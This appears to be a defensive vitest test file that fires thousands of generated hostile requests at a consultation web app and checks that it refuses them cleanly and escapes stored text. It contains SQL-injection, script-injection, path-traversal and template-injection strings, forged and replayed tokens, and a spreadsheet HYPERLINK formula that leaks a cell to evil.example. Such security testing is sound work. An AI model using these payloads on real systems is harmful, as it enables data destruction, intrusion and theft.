import http from "node:http";
import { answerRowsCurrent } from "~/models/answer-rows.server";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { issueSubmissionToken } from "~/responding/submission-token";
import { seededRandom } from "../../db/seeded-random";
import { buildOnce, freePort, SECRET, startApp, stopApp, type AppProcess } from "./helpers/app-server";
import { consistency, markerCounts, snapshot } from "./helpers/db-checks";
import { serverDatabase, serverDatabaseKinds, type ServerDatabase } from "./helpers/databases";
import { inParallel } from "./helpers/load";
import { acknowledged, prepareResponse, PRECEPT_SLUG, Resident } from "./helpers/resident";
import { staffSession } from "./helpers/staff";

/**
 * 5,000+ generated hostile requests (a seeded generator, so a failure replays exactly) at the
 * resident journey and the staff sign-in: random, missing and repeated fields, unknown ids,
 * bodies over the limit (with and without Content-Length), invalid UTF-8, wrong content types
 * and methods, forged, expired, misdirected and replayed tokens, forged cookies, SQL and script
 * injection. Nothing gets a 5xx; every refusal is a 4xx with a readable message; the server
 * stays up; and no table changes (row counts and a checksum over every row, before and after).
 *
 * Three kinds of request are answered with a redirect rather than a 4xx, by design, and are
 * asserted as exactly that redirect: no valid draft cookie (sent to the start page, which says
 * the answers could not be found), a replayed token without a draft (sent to the thank-you page,
 * as a double click is: the first response is recorded once, nothing more), and staff pages
 * without a session (sent to sign in). A replayed token with new answers in a draft is a 409
 * ("This form was already sent"), the draft kept. The staff sign-in's audit trail gains "login.failed" rows, which
 * it should; that table is checked separately.
 */

const PORT = await freePort();
const REQUESTS = 5_000;
const MAX_BODY = 256 * 1024;

const INJECTIONS = [
  "' OR '1'='1",
  "1; DROP TABLE responses; --",
  "\" OR 1=1 --",
  "'); DELETE FROM answers; --",
  "<script>alert(1)</script>",
  "\"><img src=x onerror=alert(1)>",
  "javascript:alert(1)",
  "{{7*7}}",
  "${7*7}",
  "../../../../etc/passwd",
  "%00",
  "\u0000",
  "\u202e\u0000\ufeff",
  "😀".repeat(50),
  "a".repeat(5000),
  "__proto__",
  "constructor",
];
const FIELD_NAMES = ["investment", "asb_priority", "precept_support.increase_14", "postcode", "about_you.age", "comments", "_token", "_website", "__proto__", "constructor", "x".repeat(300), "a[b]", "", "%ff"];

type Expect = "4xx" | "expired-redirect" | "done-redirect" | "login-redirect" | "login-redirect-or-4xx";
interface HostileRequest {
  kind: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: Buffer | string;
  chunked?: boolean;
  expect: Expect;
}

interface Fixtures {
  fresh: Resident; // a draft on its first page
  complete: Resident; // a complete draft with an unspent token (never sent genuinely here)
  spent: Resident; // a submitted response: its token is spent, its draft gone
  spentToken: string;
  otherConsultationId: string;
  consultationId: string;
}

function generator(seed: number, f: Fixtures) {
  const rng = seededRandom(seed);
  const int = (n: number) => Math.floor(rng() * n);
  const pick = <T>(items: readonly T[]): T => items[int(items.length)];
  const hostile = () => pick(INJECTIONS);
  const form = (pairs: [string, string][]) => new URLSearchParams(pairs).toString();
  const urlencoded = { "content-type": "application/x-www-form-urlencoded" };
  const page = (p: string) => `/consultations/${PRECEPT_SLUG}/questions/${p}`;
  const check = `/consultations/${PRECEPT_SLUG}/check`;
  const cookie = (r: Resident) => ({ cookie: r.draftCookie });
  const randomFields = (n: number): [string, string][] => Array.from({ length: n }, () => [pick(FIELD_NAMES), hostile()]);

  const makers: (() => HostileRequest)[] = [
    // Random fields with hostile values on a required page: never a valid answer.
    () => ({ kind: "random fields", method: "POST", path: page(pick(["priorities", "precept", "about-you", "anything-else"])), headers: { ...urlencoded, ...cookie(f.fresh) }, body: form([...randomFields(1 + int(6)), ["unexpected_" + int(99), hostile()]]), expect: "4xx" }),
    () => ({ kind: "missing fields", method: "POST", path: page(pick(["priorities", "precept"])), headers: { ...urlencoded, ...cookie(f.fresh) }, body: "", expect: "4xx" }),
    () => ({ kind: "repeated fields", method: "POST", path: page("priorities"), headers: { ...urlencoded, ...cookie(f.fresh) }, body: form([["investment", "neighbourhood_policing"], ["asb_priority", "high"], ["asb_priority", "low"]]), expect: "4xx" }),
    () => ({ kind: "many fields", method: "POST", path: page("priorities"), headers: { ...urlencoded, ...cookie(f.fresh) }, body: form(Array.from({ length: 2000 + int(3000) }, (_, i) => [`f${i}`, "x"])), expect: "4xx" }),
    () => ({ kind: "unknown consultation", method: pick(["GET", "POST"]), path: `/consultations/${encodeURIComponent(hostile())}${pick(["", "/check", "/results", "/questions/priorities", "/done"])}`, headers: { ...urlencoded }, body: form(randomFields(2)), expect: "4xx" }),
    () => ({ kind: "unknown page", method: pick(["GET", "POST"]), path: page(encodeURIComponent(pick(["nope", "1", hostile()]))), headers: { ...urlencoded, ...cookie(f.fresh) }, body: form(randomFields(2)), expect: "4xx" }),
    () => ({ kind: "unknown path", method: pick(["GET", "POST"]), path: `/${encodeURIComponent(hostile())}/${int(1e6)}`, headers: { ...urlencoded }, body: form(randomFields(1)), expect: "4xx" }),
    () => ({ kind: "body over the limit", method: "POST", path: pick([page("priorities"), check, "/staff/login"]), headers: { ...urlencoded, ...cookie(f.complete) }, body: "comments=" + "a".repeat(MAX_BODY + int(100_000)), expect: "4xx" }),
    () => ({ kind: "chunked body over the limit", method: "POST", path: pick([page("anything-else"), check, "/staff/login"]), headers: { ...urlencoded, ...cookie(f.complete) }, body: "comments=" + "b".repeat(MAX_BODY + int(100_000)), chunked: true, expect: "4xx" }),
    () => ({ kind: "invalid UTF-8", method: "POST", path: pick([page("priorities"), page("anything-else")]), headers: { ...urlencoded, ...cookie(f.fresh) }, body: Buffer.concat([Buffer.from("comm\xffents="), Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xa0, 0xa1]), Buffer.from("&%FF%FE=%C3%28")]), expect: "4xx" }),
    () => ({ kind: "wrong content type", method: "POST", path: pick([page("priorities"), check, "/staff/login", `/consultations/${PRECEPT_SLUG}`]), headers: { "content-type": pick(["application/json", "text/plain", "application/xml", "text/html", "application/octet-stream"]), ...cookie(f.complete) }, body: JSON.stringify({ _token: hostile(), investment: ["x"] }), expect: "4xx" }),
    () => ({ kind: "no content type", method: "POST", path: pick([page("priorities"), check, `/consultations/${PRECEPT_SLUG}`]), headers: { ...cookie(f.fresh) }, body: Buffer.from(hostile()), expect: "4xx" }),
    () => ({ kind: "broken multipart", method: "POST", path: pick([page("priorities"), check, "/staff/login"]), headers: { "content-type": `multipart/form-data; boundary=${pick(["", "x", "\"", hostile().replace(/[^\x20-\x7e]/g, "?").slice(0, 60)])}`, ...cookie(f.fresh) }, body: `--y\r\nContent-Disposition: form-data; name="a"\r\n\r\n${hostile()}`, expect: "4xx" }),
    () => ({ kind: "wrong method", method: pick(["PUT", "PATCH", "DELETE"]), path: pick([page("priorities"), `/consultations/${PRECEPT_SLUG}/done`, `/consultations/${PRECEPT_SLUG}/results`, "/consultations"]), headers: { ...urlencoded, ...cookie(f.fresh) }, body: form(randomFields(2)), expect: "4xx" }),
    () => ({ kind: "post to a page without a form", method: "POST", path: pick([`/consultations/${PRECEPT_SLUG}/done`, `/consultations/${PRECEPT_SLUG}/results`, "/consultations", "/privacy", "/"]), headers: { ...urlencoded }, body: form(randomFields(1)), expect: "4xx" }),
    () => ({ kind: "forged token", method: "POST", path: check, headers: { ...urlencoded, ...cookie(f.complete) }, body: form([["_token", pick([hostile(), "a.b", "a.b.c", f.spentToken.replace(/.$/, (c) => (c === "A" ? "B" : "A")), Buffer.from(JSON.stringify({ n: "x", c: f.consultationId, t: Date.now() })).toString("base64url") + ".forged"])], ["_website", ""]]), expect: "4xx" }),
    () => ({ kind: "expired token", method: "POST", path: check, headers: { ...urlencoded, ...cookie(f.complete) }, body: form([["_token", issueSubmissionToken(SECRET, f.consultationId, Date.now() - 25 * 3_600_000 - int(1e9))], ["_website", ""]]), expect: "4xx" }),
    () => ({ kind: "token for another consultation", method: "POST", path: check, headers: { ...urlencoded, ...cookie(f.complete) }, body: form([["_token", issueSubmissionToken(SECRET, f.otherConsultationId)], ["_website", ""]]), expect: "4xx" }),
    () => ({ kind: "token signed with another secret", method: "POST", path: check, headers: { ...urlencoded, ...cookie(f.complete) }, body: form([["_token", issueSubmissionToken("not-the-secret-" + int(1e9), f.consultationId)], ["_website", ""]]), expect: "4xx" }),
    // A double click after a submit (no draft left): the thank-you page, the response recorded once.
    () => ({ kind: "replayed token", method: "POST", path: check, headers: { ...urlencoded, ...cookie(f.spent) }, body: form([["_token", f.spentToken], ["_website", pick(["", "http://spam.example/"])]]), expect: "done-redirect" }),
    // A spent token with new answers: "This form was already sent" (409), nothing stored, the draft kept.
    () => ({ kind: "spent token with a new draft", method: "POST", path: check, headers: { ...urlencoded, ...cookie(f.complete) }, body: form([["_token", f.spentToken], ["_website", pick(["", "http://spam.example/"])]]), expect: "4xx" }),
    () => ({ kind: "forged draft cookie", method: "POST", path: page("priorities"), headers: { ...urlencoded, cookie: `yoursay_draft=${encodeURIComponent(pick([hostile(), f.fresh.draftCookie.slice(14, -3) + "abc", "eyJ4IjoieSJ9.forged"]))}` }, body: form([["investment", "neighbourhood_policing"], ["asb_priority", "high"]]), expect: "expired-redirect" }),
    () => ({ kind: "staff sign-in", method: "POST", path: "/staff/login", headers: { ...urlencoded }, body: form(pick<[string, string][]>([[], [["email", hostile()]], [["email", hostile()], ["password", hostile()]], [["email", `nobody${int(1e6)}@example.com`], ["password", hostile()]], randomFields(3)])), expect: "4xx" }),
    // Sent to sign in (or, for an address that cannot be read, refused outright).
    () => ({ kind: "staff page without a session", method: "GET", path: pick(["/staff", "/staff/consultations/new", `/staff/consultations/${encodeURIComponent(hostile())}`, `/staff/consultations/${f.consultationId}/edit`, `/staff/consultations/${f.consultationId}/results`, `/staff/consultations/${f.consultationId}/export/responses.csv`]), headers: {}, expect: "login-redirect-or-4xx" }),
    // A POST without a session is refused (405 where the page has no form) or sent to sign in.
    () => ({ kind: "staff form without a session", method: pick(["POST", "PUT", "DELETE"]), path: pick(["/staff", "/staff/consultations/new", `/staff/consultations/${encodeURIComponent(hostile())}`, `/staff/consultations/${f.consultationId}/edit`, "/staff/logout"]), headers: { ...urlencoded }, body: form(randomFields(2)), expect: "login-redirect-or-4xx" }),
    () => ({ kind: "hostile query string", method: "GET", path: `/consultations/${PRECEPT_SLUG}/results?_data=${encodeURIComponent(hostile())}&${encodeURIComponent(hostile())}=1`, headers: {}, expect: "4xx" }),
  ];
  // Staff sign-in is expensive by design (argon2): keep it to a small share of the load.
  return (): HostileRequest => {
    const r = pick(makers)();
    return r.kind === "staff sign-in" && rng() < 0.8 ? pick(makers.slice(0, 6))() : r;
  };
}

function send(base: string, r: HostileRequest): Promise<{ status: number; location: string; body: string }> {
  return new Promise((resolve, reject) => {
    const headers: Record<string, string | number> = { ...r.headers };
    if (r.body !== undefined && !r.chunked) headers["content-length"] = Buffer.byteLength(r.body);
    const req = http.request(`${base}${r.path}`, { method: r.method, headers, agent: false });
    req.on("response", (res) => {
      let body = "";
      res.setEncoding("utf8");
      res.on("data", (d) => (body += d));
      res.on("end", () => resolve({ status: res.statusCode!, location: String(res.headers.location ?? ""), body }));
      res.on("error", reject);
    });
    // The server may close early on an over-long body, after answering: that is the point.
    req.on("error", (e) => reject(e));
    if (r.body !== undefined) req.write(r.body);
    req.end();
  });
}

for (const kind of serverDatabaseKinds()) {
  describe(`hostile input [${kind}]`, () => {
    let database: ServerDatabase;
    let app: AppProcess | undefined;
    beforeAll(async () => {
      database = await serverDatabase(kind);
      app = await startApp({ buildDir: buildOnce(), databaseUrl: database.url, port: PORT });
    });
    afterAll(async () => {
      await stopApp(app);
      await database?.drop();
    });

    // First: the hostile run's failed sign-ins would (rightly) trip the sign-in throttle for 127.0.0.1.
    it("stores injection strings typed as free text as text, and renders them escaped on resident and staff pages and exports", async () => {
      const base = app!.url;
      const payload = `<script>alert("x")</script><img src=x onerror=alert(1)>' OR 1=1; DROP TABLE answers; -- \u202e ${"😀"}`;
      const formula = `=HYPERLINK("http://evil.example/?"&A1,"Click")<b>bold</b>`;
      const resident = new Resident(base);
      const token = await prepareResponse(resident, payload);
      const page = await resident.request("GET", `/consultations/${PRECEPT_SLUG}/check`);
      expect(page.body).not.toContain("<script>alert");
      expect(page.body).not.toContain("<img src=x");
      expect(page.body).toContain("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;");
      expect(acknowledged(await resident.submit(PRECEPT_SLUG, token))).toBe(true);
      const spreadsheet = new Resident(base);
      expect(acknowledged(await spreadsheet.submit(PRECEPT_SLUG, await prepareResponse(spreadsheet, formula)))).toBe(true);

      // Staff read written answers on a page and download them: escaped in HTML, quoted and
      // defused (no formula) in CSV.
      const probe = database.open();
      const { id } = await probe.db.selectFrom("consultations").select("id").where("slug", "=", PRECEPT_SLUG).executeTakeFirstOrThrow();
      await probe.close();
      const cookie = await staffSession(base, database.url, "analyst");
      const text = await fetch(`${base}/staff/consultations/${id}/results/text/comments`, { headers: { cookie } });
      expect(text.status).toBe(200);
      const html = await text.text();
      expect(html).toContain("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;");
      expect(html).toContain("&lt;b&gt;bold&lt;/b&gt;");
      expect(html).not.toContain("<script>alert");
      expect(html).not.toContain("<b>bold</b>");
      const csv = await fetch(`${base}/staff/consultations/${id}/export/responses.csv`, { headers: { cookie } });
      expect(csv.status).toBe(200);
      const rows = parse(await csv.text(), { relax_column_count: true }) as string[][];
      const cells = rows.flat();
      expect(cells).toContain(payload);
      expect(cells).toContain(`'${formula}`);
      expect(cells.some((c) => /^[=+\-@\t\r]/.test(c) && c.includes("HYPERLINK"))).toBe(false);
      // A NUL character is refused with a clear message rather than breaking the database.
      const nul = new Resident(base);
      await nul.start(PRECEPT_SLUG);
      const refused = await nul.request("POST", `/consultations/${PRECEPT_SLUG}/questions/priorities`, [["investment", "none"], ["asb_priority", "high\u0000"]]);
      expect(refused.status).toBe(400);
      expect(refused.body).toMatch(/null character/);
      const handle = database.open();
      try {
        expect((await markerCounts(handle)).get(payload)).toBe(1);
      } finally {
        await handle.close();
      }
    });

    it(`answers ${REQUESTS} hostile requests with 4xx (never 5xx), stays up and changes nothing`, { timeout: 240_000 }, async () => {
      const base = app!.url;
      const handle = database.open();
      const ids = await handle.db.selectFrom("consultations").select(["id", "slug"]).execute();
      const consultationId = ids.find((c) => c.slug === PRECEPT_SLUG)!.id;
      const fresh = new Resident(base);
      await fresh.start(PRECEPT_SLUG);
      const complete = new Resident(base);
      await prepareResponse(complete, "hostile-complete");
      const spent = new Resident(base);
      const spentToken = await prepareResponse(spent, "hostile-spent");
      expect(acknowledged(await spent.submit(PRECEPT_SLUG, spentToken))).toBe(true);
      const fixtures: Fixtures = { fresh, complete, spent, spentToken, consultationId, otherConsultationId: ids.find((c) => c.id !== consultationId)!.id };
      // The server writes the answer rows of the response just stored in the background: done
      // now, so that the snapshot below compares what the hostile requests did, not that.
      await answerRowsCurrent(handle.db);

      // The audit trail (and its chain head) gains sign-in failures, checked below; the shared
      // limits' counters and salts are not data.
      const exclude = ["audit_log", "audit_chain", "rate_limits", "rate_limit_salts", "kysely_migration", "kysely_migration_lock"];
      const before = await snapshot(handle, { exclude });
      const auditBefore = await handle.db.selectFrom("audit_log").select("action").execute();

      const next = generator(kind === "sqlite" ? 6 : 7, fixtures);
      const requests = Array.from({ length: REQUESTS }, next);
      const problems: string[] = [];
      const seen = new Map<string, number>();
      const results = await inParallel(requests, 8, async (r) => {
        const res = await send(base, r);
        seen.set(r.kind, (seen.get(r.kind) ?? 0) + 1);
        const where = `${r.kind}: ${r.method} ${r.path.slice(0, 80)} → ${res.status} ${res.location}`;
        if (res.status >= 500) problems.push(`${where} ${res.body.slice(0, 200)}`);
        else if (r.expect === "4xx" || (r.expect === "login-redirect-or-4xx" && res.status >= 400)) {
          if (res.status < 400) problems.push(`${where} (expected a 4xx)`);
          else if (r.method !== "HEAD" && !/[A-Za-z]{3,}.*[A-Za-z]{3,}/.test(res.body.replace(/<[^>]*>/g, " "))) problems.push(`${where} (no readable message)`);
          else if (/node_modules|at .*\.js:\d+/.test(res.body)) problems.push(`${where} (a stack trace)`);
        } else {
          const to = {
            "expired-redirect": `/consultations/${PRECEPT_SLUG}?expired=1`,
            "done-redirect": `/consultations/${PRECEPT_SLUG}/done`,
            "login-redirect": "/staff/login",
            "login-redirect-or-4xx": "/staff/login",
          }[r.expect];
          if (res.status !== 302 || !res.location.startsWith(to)) problems.push(`${where} (expected a redirect to ${to})`);
        }
      });
      // A request the server refused by closing the connection (over-long bodies) is fine only
      // after it answered; any other transport error is a problem.
      results.forEach((r, i) => r.status === "rejected" && problems.push(`${requests[i].kind}: ${String(r.reason)}`));
      // One example of each kind of problem is enough to read.
      const byKind = new Map(problems.map((p) => [`${p.split(":")[0]} ${p.match(/→ (\d{3})/)?.[1] ?? ""}`, p]));
      expect([...byKind.values()]).toEqual([]);
      expect([...seen.values()].reduce((a, b) => a + b, 0)).toBe(REQUESTS);
      expect(seen.size).toBeGreaterThanOrEqual(20);

      // Still up, still the same data.
      expect((await fetch(`${base}/healthcheck`)).status).toBe(200);
      expect(await snapshot(handle, { exclude })).toEqual(before);
      const auditAfter = await handle.db.selectFrom("audit_log").select("action").execute();
      expect(new Set(auditAfter.slice(auditBefore.length).map((a) => a.action))).toEqual(new Set(auditAfter.length > auditBefore.length ? ["login.failed"] : []));

      // And a genuine resident is still served and counted once.
      const after = new Resident(base);
      expect(acknowledged(await after.submit(PRECEPT_SLUG, await prepareResponse(after, "hostile-after")))).toBe(true);
      expect((await markerCounts(handle)).get("hostile-after")).toBe(1);
      const check = await consistency(handle);
      expect(check.halfWritten).toEqual([]);
      expect(check.countMismatches).toEqual([]);
      await handle.close();
    });
  });
}
